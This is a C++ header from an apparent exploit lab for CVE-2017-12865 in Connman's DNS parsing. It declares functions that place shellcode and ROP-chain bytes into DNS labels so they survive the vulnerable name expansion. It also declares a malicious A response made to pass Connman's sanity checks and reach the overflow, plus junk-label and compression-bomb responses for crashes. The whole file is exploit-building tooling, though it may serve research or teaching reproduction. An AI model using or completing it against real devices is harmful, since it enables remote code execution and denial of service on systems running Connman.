// Malicious DNS crafting: turning a desired byte image of the victim's
// `name` buffer into a label sequence that the vulnerable get_name will
// expand into exactly that image.
//
// The vulnerable expansion (paper Listing 1) interleaves a length byte
// before every label's content:
//
//     name[(*name_len)++] = label_len;
//     memcpy(name + *name_len, p + 1, label_len + 1);
//     *name_len += label_len;
//
// so the attacker does NOT control every byte of the overflow: at each
// label boundary the buffer holds the next label's length (1..63), and the
// byte just past the image holds the terminating 0. PayloadImage +
// CutIntoLabels solve the placement problem the paper's authors solved by
// hand: mark the bytes that must be exact (shellcode, chain words,
// addresses), leave don't-care gaps (sled slack, placeholder words,
// garbage slots), and the cutter finds label boundaries that only ever land
// on don't-care bytes. If the required bytes are too dense (no free byte in
// some 64-byte window) crafting fails — a real constraint of this CVE.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "src/dns/message.hpp"
#include "src/dns/name.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dns {

class PayloadImage {
 public:
  /// `size` bytes will be written into the victim buffer starting at
  /// name[0] (plus a terminating 0x00 at name[size], which the caller must
  /// budget for). Don't-care bytes encode as `filler`.
  explicit PayloadImage(std::size_t size, std::uint8_t filler = 0x41)
      : bytes_(size, filler), required_(size, false), filler_(filler) {}

  [[nodiscard]] std::size_t size() const noexcept { return bytes_.size(); }
  [[nodiscard]] std::uint8_t filler() const noexcept { return filler_; }

  util::Status SetBytes(std::size_t offset, util::ByteSpan data);
  util::Status SetWord(std::size_t offset, std::uint32_t value);  // little-endian

  [[nodiscard]] bool required(std::size_t offset) const {
    return required_[offset];
  }
  [[nodiscard]] std::uint8_t at(std::size_t offset) const {
    return bytes_[offset];
  }
  [[nodiscard]] const util::Bytes& bytes() const noexcept { return bytes_; }

 private:
  util::Bytes bytes_;
  std::vector<bool> required_;
  std::uint8_t filler_;
};

/// Finds label boundaries such that expansion reproduces `image` on every
/// required byte (don't-care bytes at boundaries become length values).
/// Fails with ResourceExhausted if required bytes are too dense.
util::Result<LabelSeq> CutIntoLabels(const PayloadImage& image);

/// The byte image get_name would produce for `labels` (length bytes
/// interleaved, trailing 0x00) — the tests' ground truth and the attacker's
/// preview of the victim buffer.
util::Bytes ExpandLabels(const LabelSeq& labels);

/// Junk labels whose expansion totals exactly `total_len` bytes (plus the
/// trailing 0). Used for the plain DoS crash. Requires total_len >= 2.
util::Result<LabelSeq> JunkLabels(std::size_t total_len, std::uint8_t filler = 0x41);

/// A Type-A response to `query` whose single answer carries `name_labels`
/// verbatim as its owner name — legitimate-looking header (id echoed,
/// QR/RA set, question echoed) so it passes Connman's sanity checks and
/// reaches the vulnerable expansion.
Message MaliciousAResponse(const Message& query, LabelSeq name_labels,
                           const std::string& answer_ip = "10.66.66.66");

/// A compression-amplified DoS response: the answer's owner name is a
/// small run of labels ending in a pointer back to its own start, so the
/// vulnerable get_name re-expands the run once per pointer hop (bounded by
/// its 10-hop budget) — a compact packet producing a many-times-larger
/// expansion. This is the "expands a compressed DNS name" facet of
/// CVE-2017-12865: the wire stays small, the stack write does not.
/// `run_labels` 63-byte labels per pass (wire cost ~64 bytes each).
util::Result<util::Bytes> CompressionBombResponse(const Message& query,
                                                  int run_labels = 4);

}  // namespace connlab::dns
